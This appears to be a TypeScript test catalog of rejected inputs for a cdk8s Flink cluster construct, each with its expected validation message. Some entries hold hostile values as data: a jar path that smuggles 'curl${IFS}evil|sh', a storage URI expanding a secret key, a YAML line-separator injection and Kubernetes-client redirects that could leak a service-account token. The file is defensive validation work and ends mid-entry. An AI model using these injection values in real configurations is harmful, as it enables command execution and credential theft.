import { App, Chart, Duration, Size, Testing } from 'cdk8s';
import { AccessMode, FlinkCluster, FlinkClusterProps, FlinkVersion, HaStorage, RestartStrategy } from '../../src';
import { exampleProps } from '../support/scenarios';
import { synthCluster } from '../support/synth';

/** One bad input: what a user wrote, and the exact message they get. */
export interface BadInput {
  /** Short description, also the docs table's first column. */
  readonly title: string;
  /** The offending part of the props, as the user would write it (docs only). */
  readonly input: string;
  /** Builds and synthesizes; must throw. */
  readonly run: () => void;
  /** The exact error message. */
  readonly message: string;
}

type Props = FlinkClusterProps & Record<string, any>;
/** The example app's props with `patch` applied on top (shallow). */
const ex = (patch: (p: Props) => Record<string, unknown>, version?: FlinkVersion) => () => {
  const base = exampleProps(version) as Props;
  synthCluster({ ...base, ...patch(base) } as FlinkClusterProps);
};
const row = (title: string, input: string, run: () => void, message: string): BadInput => ({
  title,
  input,
  run,
  message,
});

/** The catalog. Messages were taken from the code and read for clarity. */
export const BAD_INPUTS: BadInput[] = [
  row(
    'jar path that would reach a shell',
    'job: { jarUri: "local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar" }',
    ex((p) => ({ job: { ...p.job, jarUri: 'local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar' } })),
    'job.jarUri: "local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar" - may contain only letters, digits and "._+@/-" (no spaces, quotes, "$", ";", globs or ".." segments), as it reaches a shell and a command line; rename the jar, e.g. local:///opt/flink/usrlib/my-job-1.0.jar',
  ),
  row(
    'storage URI with "$(...)" (kubelet expansion)',
    'job: { initialSavepointPath: "s3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)" }',
    ex((p) => ({ job: { ...p.job, initialSavepointPath: 's3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)' } })),
    'job.initialSavepointPath: "s3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)" - may contain only letters, digits and "._~:/@%+=,-" (no quotes, "$", "#", "?", ";" or backslashes); percent-encode anything else, e.g. %20 for a space',
  ),
  row(
    'Unicode line separator in a config value',
    'flinkConfiguration: { "pipeline.name": "orders\\u2028flink-conf.yaml: x" }',
    ex(() => ({ flinkConfiguration: { 'pipeline.name': 'orders\u2028flink-conf.yaml: x' } })),
    'flinkConfiguration["pipeline.name"]: "orders\\u2028flink-conf.yaml: x" - contains a line break, control character or Unicode line separator, which no Flink option takes and which YAML tools read as a new line; remove it',
  ),
  row(
    'session cluster behind an Ingress without a submission decision',
    'job: undefined, restIngress: { host: "flink.example.com" }, network: { restAllowedFrom: [...] }',
    ex(() => ({
      job: undefined,
      restIngress: { host: 'flink.example.com' },
      network: { restAllowedFrom: [{ namespaceSelector: { matchLabels: { team: 'ingress' } } }] },
    })),
    "restIngress.jobSubmission: undefined - must be set for a session cluster behind an Ingress: Flink's REST API has no authentication, so anyone who reaches it could upload and run a jar. Set true with authentication in front (ingress annotations), or false",
  ),
  row(
    'PodMonitor without a named scraper',
    'metrics: { podMonitor: {} }',
    ex(() => ({ metrics: { podMonitor: {} } })),
    'metrics.allowedFrom: [] - must name your Prometheus for metrics.podMonitor: the NetworkPolicy admits no scraper by default, e.g. [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "monitoring" } } }]',
  ),
  row(
    'a setting the declared Flink version does not have',
    'flinkVersion: FlinkVersion.V1_18, restartStrategy: RestartStrategy.exponentialDelay({ attemptsBeforeResetBackoff: 3 })',
    ex(
      () => ({ restartStrategy: RestartStrategy.exponentialDelay({ attemptsBeforeResetBackoff: 3 }) }),
      FlinkVersion.V1_18,
    ),
    'restartStrategy: "restart-strategy.exponential-delay.attempts-before-reset-backoff" - needs "restart-strategy.exponential-delay.attempts-before-reset-backoff", which Flink 1.18 does not have (it exists from 1.19 on); leave that setting out or raise flinkVersion',
  ),
  row(
    'props not an object',
    'new FlinkCluster(chart, "F", undefined as any)',
    () => synthCluster(undefined as any),
    'props: undefined - must be an object with at least flinkVersion',
  ),
  row(
    'misspelt prop (JavaScript or JSON callers)',
    'flinkConfig: { "pipeline.name": "orders" }',
    ex(() => ({ flinkConfig: { 'pipeline.name': 'orders' } })),
    'props: "flinkConfig" - is not a field of FlinkClusterProps: it would be ignored; did you mean "flinkConfiguration"?',
  ),
  row(
    'prop name from Object.prototype',
    'jobManager: { constructor: "x" }',
    ex(() => ({ jobManager: { constructor: 'x' } })),
    'jobManager: "constructor" - is not a field of JobManagerProps: it would be ignored; use one of affinity, env, envFrom, nodeSelector, podAnnotations, podLabels, replicas, resources, tolerations, volumes',
  ),
  row(
    'unsupported Flink version',
    'flinkVersion: "1.17"',
    ex(() => ({ flinkVersion: '1.17' })),
    'flinkVersion: "1.17" - is not a supported Flink version; use one of FlinkVersion.V1_18, FlinkVersion.V1_19, FlinkVersion.V1_20, FlinkVersion.V2_0, FlinkVersion.V2_1, FlinkVersion.V2_2, FlinkVersion.V2_3 (1.18, 1.19, 1.20, 2.0, 2.1, 2.2, 2.3)',
  ),
  row(
    'cluster id with capitals or "_"',
    'clusterId: "My_Cluster"',
    ex(() => ({ clusterId: 'My_Cluster' })),
    'clusterId: "My_Cluster" - must be at most 45 characters of lowercase letters, digits and "-", starting with a letter and ending with a letter or digit (Flink\'s rule for kubernetes.cluster-id); e.g. "orders-flink"',
  ),
  row(
    'cluster id derived from a construct id that yields nothing',
    'new FlinkCluster(chart, "123", { ... no clusterId })',
    () => {
      const app = Testing.app();
      new FlinkCluster(new Chart(app, 'c', { namespace: 'flink' }), '123', { ...exampleProps(), clusterId: undefined });
    },
    'clusterId (derived from construct id "123"): "" - must be at most 45 characters of lowercase letters, digits and "-", starting with a letter and ending with a letter or digit (Flink\'s rule for kubernetes.cluster-id); e.g. "orders-flink"',
  ),
  row(
    'missing namespace',
    'new Chart(app, "c") without namespace, no namespace prop',
    () => synthCluster(exampleProps(), { namespace: null }),
    'namespace: undefined - is required: set the namespace prop or create the chart with { namespace: "..." } (Flink\'s kubernetes.namespace must name the pods\' namespace)',
  ),
  row(
    'namespace not a DNS label',
    'namespace: "Flink_Jobs"',
    ex(() => ({ namespace: 'Flink_Jobs' })),
    'namespace: "Flink_Jobs" - must be a DNS label: at most 63 lowercase letters, digits and "-"',
  ),
  row(
    'duplicate cluster id in one app',
    'two FlinkClusters with clusterId "orders" in namespace "flink"',
    () => {
      const app = new App();
      const chart = new Chart(app, 'c', { namespace: 'flink' });
      new FlinkCluster(chart, 'A', { ...exampleProps(), clusterId: 'orders' });
      new FlinkCluster(chart, 'B', { ...exampleProps(), clusterId: 'orders' });
    },
    'clusterId: "orders" - is already used by c/A in namespace "flink"; the two clusters would share Flink\'s HA ConfigMaps and storage. Give each a distinct clusterId',
  ),
  row(
    'image repository with a tag',
    'image: { repository: "flink:1.19" }',
    ex(() => ({ image: { repository: 'flink:1.19' } })),
    'image.repository: "flink:1.19" - is not an image repository; write e.g. "flink" or "registry.example.com/team/flink" (no tag, no digest)',
  ),
  row(
    'image tag with a space',
    'image: { tag: "1.19 java17" }',
    ex(() => ({ image: { tag: '1.19 java17' } })),
    'image.tag: "1.19 java17" - is not a valid image tag (letters, digits, "_", "." and "-", at most 128 characters)',
  ),
  row(
    'image tag naming another Flink version',
    'flinkVersion: FlinkVersion.V1_19, image: { tag: "1.20.0" }',
    ex(() => ({ image: { tag: '1.20.0' } })),
    'image.tag: "1.20.0" - names Flink 1.20 but flinkVersion is 1.19; set flinkVersion to match the image, or use a 1.19.x tag',
  ),
  row(
    'image digest malformed',
    'image: { digest: "sha256:abc" }',
    ex(() => ({ image: { digest: 'sha256:abc' } })),
    'image.digest: "sha256:abc" - must be "sha256:" followed by 64 lowercase hex digits',
  ),
  row(
    'pull secrets not a list',
    'image: { pullSecrets: "regcred" }',
    ex(() => ({ image: { pullSecrets: 'regcred' } })),
    'image.pullSecrets: "regcred" - must be a list of Secret names, e.g. ["registry-credentials"]',
  ),
  row(
    'pull secret name invalid',
    'image: { pullSecrets: ["Reg_Cred"] }',
    ex(() => ({ image: { pullSecrets: ['Reg_Cred'] } })),
    'image.pullSecrets[0]: "Reg_Cred" - is not a valid Secret name: lowercase letters, digits, "-" and ".", starting and ending with a letter or digit',
  ),
  row(
    'pull policy in lower case',
    'image: { pullPolicy: "always" }',
    ex(() => ({ image: { pullPolicy: 'always' } })),
    'image.pullPolicy: "always" - must be one of ImagePullPolicy.ALWAYS, ImagePullPolicy.IF_NOT_PRESENT, ImagePullPolicy.NEVER',
  ),
  row(
    'JobManager replicas not a number (JavaScript caller)',
    'jobManager: { replicas: "2" }',
    ex(() => ({ jobManager: { replicas: '2' } })),
    'jobManager.replicas: "2" - must be a whole number between 1 and 10',
  ),
  row(
    'standby JobManagers without HA',
    'highAvailability: { enabled: false }, jobManager: { replicas: 2 }',
    ex(() => ({ highAvailability: { enabled: false }, jobManager: { replicas: 2 } })),
    'jobManager.replicas: 2 - needs HA: standby JobManagers only work with highAvailability enabled; set replicas to 1 or enable highAvailability',
  ),
  row(
    'TaskManager replicas out of range',
    'taskManager: { replicas: -1 }',
    ex(() => ({ taskManager: { replicas: -1 } })),
    'taskManager.replicas: -1 - must be a whole number between 0 and 1000',
  ),
  row(
    'task slots zero',
    'taskManager: { replicas: 2, taskSlots: 0 }',
    ex(() => ({ taskManager: { replicas: 2, taskSlots: 0 } })),
    'taskManager.taskSlots: 0 - must be a whole number between 1 and 1024',
  ),
  row(
    'cpu zero',
    'taskManager: { replicas: 2, resources: { cpu: 0 } }',
    ex(() => ({ taskManager: { replicas: 2, resources: { cpu: 0 } } })),
    'taskManager.resources.cpu: 0 - must be a number between 0.001 and 256',
  ),
  row(
    'cpu limit below the request',
    'jobManager: { resources: { cpu: 2, cpuLimit: 1 } }',
    ex(() => ({ jobManager: { resources: { cpu: 2, cpuLimit: 1 } } })),
    'jobManager.resources.cpuLimit: 1 - is below the CPU request (resources.cpu: 2); Kubernetes refuses a limit under the request. Raise cpuLimit or leave it out',
  ),
  row(
    'memory given as a string (a Size is expected)',
    'jobManager: { resources: { memory: "1Gi" } }',
    ex(() => ({ jobManager: { resources: { memory: '1Gi' } } })),
    'jobManager.resources.memory: "1Gi" - is not a Size; pass e.g. Size.mebibytes(1024) from cdk8s',
  ),
  row(
    'memory not a whole number of MiB',
    'taskManager: { replicas: 2, resources: { memory: Size.kibibytes(1500000) } }',
    ex(() => ({ taskManager: { replicas: 2, resources: { memory: Size.kibibytes(1_500_000) } } })),
    'taskManager.resources.memory: 1464.84375Mi - must be a whole number of MiB; use Size.mebibytes(n) or Size.gibibytes(n)',
  ),
  row(
    'memory zero',
    'taskManager: { replicas: 2, resources: { memory: Size.mebibytes(0) } }',
    ex(() => ({ taskManager: { replicas: 2, resources: { memory: Size.mebibytes(0) } } })),
    'taskManager.resources.memory: 0Mi - must be larger than zero',
  ),
  row(
    'processSize above memory',
    'taskManager: { resources: { memory: Size.gibibytes(2), processSize: Size.gibibytes(3) } }',
    ex(() => ({
      taskManager: { replicas: 2, resources: { memory: Size.gibibytes(2), processSize: Size.gibibytes(3) } },
    })),
    'taskManager.resources.processSize: 3072Mi - exceeds the container memory limit (2048Mi); the kernel would kill the JVM. Lower processSize or raise memory',
  ),
  row(
    'JobManager memory too small',
    'jobManager: { resources: { memory: Size.mebibytes(600) } }',
    ex(() => ({ jobManager: { resources: { memory: Size.mebibytes(600) } } })),
    "jobManager.resources.memory: 600Mi - is below what Flink's memory model can derive components from; use at least Size.mebibytes(704)",
  ),
  row(
    'TaskManager processSize too small',
    'taskManager: { resources: { memory: Size.gibibytes(2), processSize: Size.mebibytes(900) } }',
    ex(() => ({
      taskManager: { replicas: 2, resources: { memory: Size.gibibytes(2), processSize: Size.mebibytes(900) } },
    })),
    "taskManager.resources.processSize: 900Mi - is below what Flink's memory model can derive components from; use at least Size.mebibytes(982)",
  ),
  row(
    'TaskManager memory below the memory model',
    'taskManager: { replicas: 2, resources: { memory: Size.mebibytes(900) } }',
    ex(() => ({ taskManager: { replicas: 2, resources: { memory: Size.mebibytes(900) } } })),
    "taskManager.resources.memory: 900Mi - is below what Flink's memory model can derive components from; use at least Size.mebibytes(982)",
  ),
  row(
    'reserved environment variable',
    'taskManager: { env: [{ name: "FLINK_PROPERTIES", value: "..." }] }',
    ex(() => ({ taskManager: { replicas: 2, env: [{ name: 'FLINK_PROPERTIES', value: 'a: b' }] } })),
    'taskManager.env[0].name: "FLINK_PROPERTIES" - is reserved: it would override the generated config; use flinkConfiguration',
  ),
  row(
    "environment variable redirecting Flink's Kubernetes client",
    'jobManager: { env: [{ name: "KUBERNETES_SERVICE_HOST", value: "10.0.0.99" }] }',
    ex(() => ({ jobManager: { env: [{ name: 'KUBERNETES_SERVICE_HOST', value: '10.0.0.99' }] } })),
    'jobManager.env[0].name: "KUBERNETES_SERVICE_HOST" - is reserved: Flink\'s Kubernetes client (fabric8) takes the API server address, token, CA and TLS checks from KUBECONFIG and KUBERNETES_* variables: another value could send the pod\'s service-account token elsewhere, switch off certificate checks or move HA to another namespace',
  ),
  row(
    "JVM option redirecting Flink's Kubernetes client, in a pod variable",
    'jobManager: { env: [{ name: "JAVA_TOOL_OPTIONS", value: "-Dkubernetes.trust.certificates=true" }] }',
    ex(() => ({ jobManager: { env: [{ name: 'JAVA_TOOL_OPTIONS', value: '-Dkubernetes.trust.certificates=true' }] } })),
    'jobManager.env[0].value: "-Dkubernetes.trust.certificates=true" - sets the system property kubernetes.trust.certificates, which Flink\'s Kubernetes client (fabric8) reads before its KUBECONFIG and KUBERNETES_* variables: another value could send the pod\'s service-account token elsewhere, switch off certificate checks or move HA to another namespace; remove it',
  ),
  row(
    'envFrom prefix that makes every variable a Kubernetes client setting',
    'jobManager: { envFrom: [{ prefix: "KUBERNETES_", secretRef: { name: "api-settings" } }] }',
    ex(() => ({ jobManager: { envFrom: [{ prefix: 'KUBERNETES_', secretRef: { name: 'api-settings' } }] } })),
    'jobManager.envFrom[0].prefix: "KUBERNETES_" - makes every variable of the source reserved: Flink\'s Kubernetes client (fabric8) takes the API server address, token, CA and TLS checks from KUBECONFIG and KUBERNETES_* variables: another value could send the pod\'s service-account token elsewhere, switch off certificate checks or move HA to another namespace',
  ),
  row(
    "escape hatch: JVM option redirecting Flink's Kubernetes client",
    'flinkConfiguration: { "env.java.opts.jobmanager": "-Dkubernetes.master=https://10.0.0.99" }',
    ex(() => ({ flinkConfiguration: { 'env.java.opts.jobmanager': '-Dkubernetes.master=https://10.0.0.99' } })),
    'flinkConfiguration["env.java.opts.jobmanager"]: "-Dkubernetes.master=https://10.0.0.99" - sets the system property kubernetes.master, which Flink\'s Kubernetes client (fabric8) reads before its KUBECONFIG and KUBERNETES_* variables: another value could send the pod\'s service-account token elsewhere, switch off certificate checks or move HA to another namespace; remove it',
  ),
  row(
    "escape hatch: a kubeconfig for Flink's HA client",
    'flinkConfiguration: { "kubernetes.config.file": "/opt/flink/extra/kubeconfig" }',
    ex(() => ({ flinkConfiguration: { 'kubernetes.config.file': '/opt/flink/extra/kubeconfig' } })),
    'flinkConfiguration["kubernetes.config.file"]: "/opt/flink/extra/kubeconfig" - is set by the construct (Flink\'s Kubernetes HA client and the HA agent both use the pod\'s service account in the pod\'s namespace; a kubeconfig would point Flink elsewhere, where the agent and the Roles do not follow); remove it',
  ),
  row(
    'storage URI with a key and secret in its user info',
    'highAvailability: { storage: HaStorage.objectStore("s3://AKIA...:wJalr...@flink-state/ha") }',
    ex(() => ({
      highAvailability: { storage: HaStorage.objectStore('s3://AKIAEXAMPLE:wJalrXUtnFEMI@flink-state/ha') },
    })),
    'highAvailability.storage: "(hidden)" - carries a credential in its user info ("<key>:<secret>@"), which would write it into the ConfigMap, the Deployments and so your Git repository; take credentials from a Secret (the HA storage\'s credentials, or workload identity) and write the URI without them',
  ),
  row(
    'volume over the service-account token',
    'jobManager: { volumes: [{ volume: { name: "token", projected: {...} }, mountPath: "/var/run/secrets/kubernetes.io/serviceaccount" }] }',
    ex(() => ({
      jobManager: {
        volumes: [
          {
            volume: {
              name: 'token',
              projected: { sources: [{ serviceAccountToken: { path: 'token', audience: 'vault' } }] },
            },
            mountPath: '/var/run/secrets/kubernetes.io/serviceaccount',
          },
        ],
      },
    })),
    'jobManager.volumes[0].mountPath: "/var/run/secrets/kubernetes.io/serviceaccount" - would hide or replace the service-account token Kubernetes mounts at /var/run/secrets/kubernetes.io (Flink\'s Kubernetes HA client authenticates with it); mount elsewhere, e.g. /opt/flink/extra/token',
  ),
  row(
    'environment variable replacing the Java options of the config file',
    'taskManager: { env: [{ name: "FLINK_ENV_JAVA_OPTS", value: "-XX:+UseZGC" }] }',
    ex(() => ({ taskManager: { replicas: 2, env: [{ name: 'FLINK_ENV_JAVA_OPTS', value: '-XX:+UseZGC' }] } })),
    'taskManager.env[0].name: "FLINK_ENV_JAVA_OPTS" - is reserved: Flink\'s scripts would then ignore env.java.opts.all of the config file, which carries the module options Java 17 needs; use flinkConfiguration["env.java.opts.all"], which is appended to them',
  ),
  row(
    'environment variable set twice',
    'jobManager: { env: [{ name: "TZ", value: "UTC" }, { name: "TZ", value: "CET" }] }',
    ex(() => ({
      jobManager: {
        env: [
          { name: 'TZ', value: 'UTC' },
          { name: 'TZ', value: 'CET' },
        ],
      },
    })),
    'jobManager.env[1].name: "TZ" - names two variables (the later one would silently win); set each variable once',
  ),
  row(
    'environment variable with both a value and a source',
    'jobManager: { env: [{ name: "TOPIC", value: "orders", valueFrom: { configMapKeyRef: { name: "kafka", key: "topic" } } }] }',
    ex(() => ({
      jobManager: {
        env: [{ name: 'TOPIC', value: 'orders', valueFrom: { configMapKeyRef: { name: 'kafka', key: 'topic' } } }],
      },
    })),
    'jobManager.env[0]: "TOPIC" - must set either value or valueFrom with exactly one of secretKeyRef, configMapKeyRef, fieldRef or resourceFieldRef (Kubernetes refuses anything else)',
  ),
  row(
    'credential as an inline env value',
    'taskManager: { env: [{ name: "AWS_SECRET_ACCESS_KEY", value: "wJalr..." }] }',
    ex(() => ({ taskManager: { replicas: 2, env: [{ name: 'AWS_SECRET_ACCESS_KEY', value: 'wJalrXUtnFEMI' }] } })),
    'taskManager.env[0].value: "(hidden)" - would write a credential into the Deployment, and so into your Git repository; take it from a Secret: { name: "AWS_SECRET_ACCESS_KEY", valueFrom: { secretKeyRef: { name: "<secret>", key: "<key>" } } }, or envFrom with a secretRef',
  ),
  row(
    'credential as a JVM system property in an env value',
    'jobManager: { env: [{ name: "JVM_ARGS", value: "-Dkafka.password=..." }] }',
    ex(() => ({ jobManager: { env: [{ name: 'JVM_ARGS', value: '-Dkafka.password=hunter2' }] } })),
    'jobManager.env[0].value: "(hidden)" - sets the credential kafka.password inline (-Dkafka.password=...), which would write it into the Deployment, and so into your Git repository; read it from a mounted Secret file instead',
  ),
  row(
    'env not a list',
    'jobManager: { env: { A: "1" } }',
    ex(() => ({ jobManager: { env: { A: '1' } } })),
    'jobManager.env: {"A":"1"} - must be a list of EnvVar objects, e.g. [{ name: "TZ", value: "UTC" }]',
  ),
  row(
    'env entry without a name',
    'jobManager: { env: [{ value: "1" }] }',
    ex(() => ({ jobManager: { env: [{ value: '1' }] } })),
    'jobManager.env[0].name: undefined - is not a valid environment variable name: letters, digits, "_", "-" and ".", not starting with a digit',
  ),
  row(
    'envFrom entry with two sources',
    'taskManager: { envFrom: [{ secretRef: { name: "a" }, configMapRef: { name: "b" } }] }',
    ex(() => ({ taskManager: { replicas: 2, envFrom: [{ secretRef: { name: 'a' }, configMapRef: { name: 'b' } }] } })),
    'taskManager.envFrom[0]: {"secretRef":{"name":"a"},"configMapRef":{"name":"b"}} - must set exactly one of secretRef or configMapRef, e.g. { secretRef: { name: "job-secrets" } }',
  ),
  row(
    'envFrom Secret name invalid',
    'jobManager: { envFrom: [{ secretRef: { name: "Kafka_Creds" } }] }',
    ex(() => ({ jobManager: { envFrom: [{ secretRef: { name: 'Kafka_Creds' } }] } })),
    'jobManager.envFrom[0].secretRef.name: "Kafka_Creds" - is not a valid Secret name: lowercase letters, digits, "-" and ".", starting and ending with a letter or digit',
  ),
  row(
    'toleration seconds given as a string',
    'taskManager: { tolerations: [{ key: "spot", operator: "Exists", tolerationSeconds: "30" }] }',
    ex(() => ({
      taskManager: { replicas: 2, tolerations: [{ key: 'spot', operator: 'Exists', tolerationSeconds: '30' }] },
    })),
    'taskManager.tolerations[0].tolerationSeconds: "30" - must be a whole number',
  ),
  row(
    'affinity weight above 100',
    'taskManager: { affinity: { podAntiAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 500, ... }] } } }',
    ex(() => ({
      taskManager: {
        replicas: 2,
        affinity: {
          podAntiAffinity: {
            preferredDuringSchedulingIgnoredDuringExecution: [
              { weight: 500, podAffinityTerm: { topologyKey: 'kubernetes.io/hostname' } },
            ],
          },
        },
      },
    })),
    'taskManager.affinity.podAntiAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].weight: 500 - must be between 1 and 100',
  ),
  row(
    'affinity that is a class instance',
    'taskManager: { affinity: new Map() }',
    ex(() => ({ taskManager: { replicas: 2, affinity: new Map() } })),
    'taskManager.affinity: a Map - must be a plain object literal: cdk8s cannot serialize a Date, a class instance or an object without a prototype',
  ),
  row(
    'toleration operator in lower case',
    'taskManager: { tolerations: [{ key: "spot", operator: "exists" }] }',
    ex(() => ({ taskManager: { replicas: 2, tolerations: [{ key: 'spot', operator: 'exists' }] } })),
    'taskManager.tolerations[0].operator: "exists" - must be one of "Exists", "Equal"',
  ),
  row(
    'toleration without a key that is not "Exists"',
    'taskManager: { tolerations: [{ value: "flink", effect: "NoSchedule" }] }',
    ex(() => ({ taskManager: { replicas: 2, tolerations: [{ value: 'flink', effect: 'NoSchedule' }] } })),
    'taskManager.tolerations[0].operator: undefined - must be "Exists" when key is empty (a toleration without a key tolerates every taint); set key or operator: "Exists"',
  ),
  row(
    'toleration "Exists" with a value',
    'taskManager: { tolerations: [{ key: "spot", operator: "Exists", value: "true" }] }',
    ex(() => ({ taskManager: { replicas: 2, tolerations: [{ key: 'spot', operator: 'Exists', value: 'true' }] } })),
    'taskManager.tolerations[0].value: "true" - must be empty with operator "Exists" (it matches any value); remove it',
  ),
  row(
    'toleration seconds without effect NoExecute',
    'taskManager: { tolerations: [{ key: "spot", operator: "Exists", tolerationSeconds: 30 }] }',
    ex(() => ({
      taskManager: { replicas: 2, tolerations: [{ key: 'spot', operator: 'Exists', tolerationSeconds: 30 }] },
    })),
    'taskManager.tolerations[0].tolerationSeconds: 30 - applies only to effect "NoExecute" (how long the pod stays on a node that gets such a taint); set that effect or remove it',
  ),
  row(
    'toleration key with a space',
    'taskManager: { tolerations: [{ key: "spot pool", operator: "Exists" }] }',
    ex(() => ({ taskManager: { replicas: 2, tolerations: [{ key: 'spot pool', operator: 'Exists' }] } })),
    'taskManager.tolerations[0].key: "spot pool" - is not a valid taint key (e.g. "dedicated" or "example.com/pool")',
  ),
  row(
    'Kubernetes wire name instead of the cdk8s field name',
    'taskManager: { volumes: [{ volume: { name: "info", downwardAPI: {} }, mountPath: "/etc/info" }] }',
    ex(() => ({
      taskManager: { replicas: 2, volumes: [{ volume: { name: 'info', downwardAPI: {} }, mountPath: '/etc/info' }] },
    })),
    'taskManager.volumes[0].volume: "downwardAPI" - is not a field of k8s.Volume: cdk8s would leave it out of the YAML; did you mean "downwardApi"?',
  ),
  row(
    'volume item path climbing out of the volume',
    'taskManager: { volumes: [{ volume: { name: "cfg", configMap: { name: "app", items: [{ key: "k", path: "../k" }] } }, mountPath: "/cfg" }] }',
    ex(() => ({
      taskManager: {
        replicas: 2,
        volumes: [
          {
            volume: { name: 'cfg', configMap: { name: 'app', items: [{ key: 'k', path: '../k' }] } },
            mountPath: '/cfg',
          },
        ],
      },
    })),
    'taskManager.volumes[0].volume.configMap.items[0].path: "../k" - must be a relative path inside the volume, without ".." segments, e.g. "config/app.properties"',
  ),
  row(
    'pod label key "constructor"',
    'jobManager: { podLabels: { constructor: "x" } }',
    ex(() => ({ jobManager: { podLabels: { constructor: 'x' } } })),
    'jobManager.podLabels["constructor"]: "constructor" - cannot be written: cdk8s (2.x) fails to serialize any object with a key named "constructor"; use another key',
  ),
  row(
    'pod label the Services select by',
    'taskManager: { podLabels: { "app.kubernetes.io/name": "orders" } }',
    ex(() => ({ taskManager: { replicas: 2, podLabels: { 'app.kubernetes.io/name': 'orders' } } })),
    'taskManager.podLabels["app.kubernetes.io/name"]: "app.kubernetes.io/name" - is reserved: the construct sets app.kubernetes.io/name, app.kubernetes.io/instance, app.kubernetes.io/component on every pod (its Services, budgets and NetworkPolicies select pods by them) and would replace your value; flink.cdk8s.io/ is the construct\'s own prefix (the HA agent\'s role label, the config checksum); use another key',
  ),
  row(
    "pod annotation under the construct's prefix",
    'jobManager: { podAnnotations: { "flink.cdk8s.io/config-checksum": "pinned" } }',
    ex(() => ({ jobManager: { podAnnotations: { 'flink.cdk8s.io/config-checksum': 'pinned' } } })),
    'jobManager.podAnnotations["flink.cdk8s.io/config-checksum"]: "flink.cdk8s.io/config-checksum" - is reserved: flink.cdk8s.io/ is the construct\'s own prefix (the HA agent\'s role label, the config checksum); use another key',
  ),
  row(
    'resources not an object',
    'jobManager: { resources: "2" }',
    ex(() => ({ jobManager: { resources: '2' } })),
    'jobManager.resources: "2" - must be an object, e.g. { cpu: 1, memory: Size.mebibytes(2048) }',
  ),
  row(
    'volumes not a list',
    'taskManager: { volumes: { name: "x" } }',
    ex(() => ({ taskManager: { replicas: 2, volumes: { name: 'x' } } })),
    'taskManager.volumes: {"name":"x"} - must be a list of { volume, mountPath }, e.g. [{ volume: { name: "data", emptyDir: {} }, mountPath: "/opt/flink/extra/data" }]',
  ),
  row(
    'volume with a reserved name',
    'taskManager: { volumes: [{ volume: { name: "tmp", emptyDir: {} }, mountPath: "/data" }] }',
    ex(() => ({
      taskManager: { replicas: 2, volumes: [{ volume: { name: 'tmp', emptyDir: {} }, mountPath: '/data' }] },
    })),
    'taskManager.volumes[0].volume.name: "tmp" - is used by the construct; pick another name (reserved: flink-config-src, flink-config, flink-log, tmp, usrlib, plugins, ha-storage, fs-credentials, ha-agent)',
  ),
  row(
    'volume over a path the construct mounts',
    'taskManager: { volumes: [{ volume: { name: "conf", emptyDir: {} }, mountPath: "/opt/flink/conf" }] }',
    ex(() => ({
      taskManager: { replicas: 2, volumes: [{ volume: { name: 'conf', emptyDir: {} }, mountPath: '/opt/flink/conf' }] },
    })),
    'taskManager.volumes[0].mountPath: "/opt/flink/conf" - overlaps a path the construct mounts (/opt/flink/conf, /opt/flink/log, /tmp, /opt/flink/usrlib, /opt/flink/plugins, /opt/flink/ha, /opt/flink/secrets); mount elsewhere, e.g. /opt/flink/extra/conf',
  ),
  row(
    'volume over a path the construct mounts, written with "//" or "."',
    'taskManager: { volumes: [{ volume: { name: "conf", emptyDir: {} }, mountPath: "//opt/flink/./conf/" }] }',
    ex(() => ({
      taskManager: {
        replicas: 2,
        volumes: [{ volume: { name: 'conf', emptyDir: {} }, mountPath: '//opt/flink/./conf/' }],
      },
    })),
    'taskManager.volumes[0].mountPath: "//opt/flink/./conf/" - overlaps a path the construct mounts (/opt/flink/conf, /opt/flink/log, /tmp, /opt/flink/usrlib, /opt/flink/plugins, /opt/flink/ha, /opt/flink/secrets); mount elsewhere, e.g. /opt/flink/extra/conf',
  ),
  row(
    'mount path with ".."',
    'taskManager: { volumes: [{ volume: { name: "conf", emptyDir: {} }, mountPath: "/opt/flink/x/../conf" }] }',
    ex(() => ({
      taskManager: {
        replicas: 2,
        volumes: [{ volume: { name: 'conf', emptyDir: {} }, mountPath: '/opt/flink/x/../conf' }],
      },
    })),
    'taskManager.volumes[0].mountPath: "/opt/flink/x/../conf" - must not contain ".." segments (they hide which folder the volume really covers); write the path without them, e.g. /opt/flink/extra/conf',
  ),
  row(
    "volume over the image's Flink distribution",
    'jobManager: { volumes: [{ volume: { name: "jars", emptyDir: {} }, mountPath: "/opt/flink/lib" }] }',
    ex(() => ({ jobManager: { volumes: [{ volume: { name: 'jars', emptyDir: {} }, mountPath: '/opt/flink/lib' }] } })),
    'jobManager.volumes[0].mountPath: "/opt/flink/lib" - would hide the image\'s Flink distribution (/opt/flink/bin, /opt/flink/lib, /opt/flink/opt) and Flink could not start; mount below it (Flink loads jars from sub-folders of /opt/flink/lib too, e.g. /opt/flink/lib/jars) or elsewhere',
  ),
  row(
    'volume readOnly given as a string',
    'jobManager: { volumes: [{ volume: { name: "d", emptyDir: {} }, mountPath: "/data", readOnly: "false" }] }',
    ex(() => ({
      jobManager: { volumes: [{ volume: { name: 'd', emptyDir: {} }, mountPath: '/data', readOnly: 'false' }] },
    })),
    'jobManager.volumes[0].readOnly: "false" - must be true or false',
  ),
  row(
    'hostPath volume (Pod Security "restricted")',
    'taskManager: { volumes: [{ volume: { name: "host", hostPath: { path: "/data" } }, mountPath: "/data" }] }',
    ex(() => ({
      taskManager: {
        replicas: 2,
        volumes: [{ volume: { name: 'host', hostPath: { path: '/data' } }, mountPath: '/data' }],
      },
    })),
    'taskManager.volumes[0].volume: "host" - must have exactly one source of configMap, secret, emptyDir, persistentVolumeClaim, projected, downwardApi, csi, ephemeral (the "restricted" Pod Security Standard refuses others, e.g. hostPath)',
  ),
  row(
    'volume without a mount path',
    'taskManager: { volumes: [{ volume: { name: "d", emptyDir: {} } }] }',
    ex(() => ({ taskManager: { replicas: 2, volumes: [{ volume: { name: 'd', emptyDir: {} } }] } })),
    'taskManager.volumes[0].mountPath: undefined - must be a non-empty string without line breaks or control characters',
  ),
  row(
    'volume name not a DNS label',
    'taskManager: { volumes: [{ volume: { name: "My_Vol", emptyDir: {} }, mountPath: "/data" }] }',
    ex(() => ({
